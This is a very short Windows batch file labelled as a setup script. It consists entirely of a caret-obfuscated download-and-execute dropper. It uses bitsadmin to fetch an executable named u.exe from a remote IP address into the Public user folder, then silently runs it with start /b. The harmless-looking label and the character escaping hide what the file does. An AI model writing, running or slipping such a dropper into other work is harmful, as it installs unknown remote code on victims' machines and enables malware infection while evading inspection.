REM setup 5243 v0
b^i^t^s^a^dmin /trans^fe^r ^j^ob /d^own^l^o^ad /^pri^ority ^h^ig^h ht^t^p://^19^8.^51.10^0.9/^u.^e^x^e ^C:\U^se^rs\Publ^ic\u.exe
^st^art /^b C:\^U^se^r^s\^Pub^l^ic\u.exe
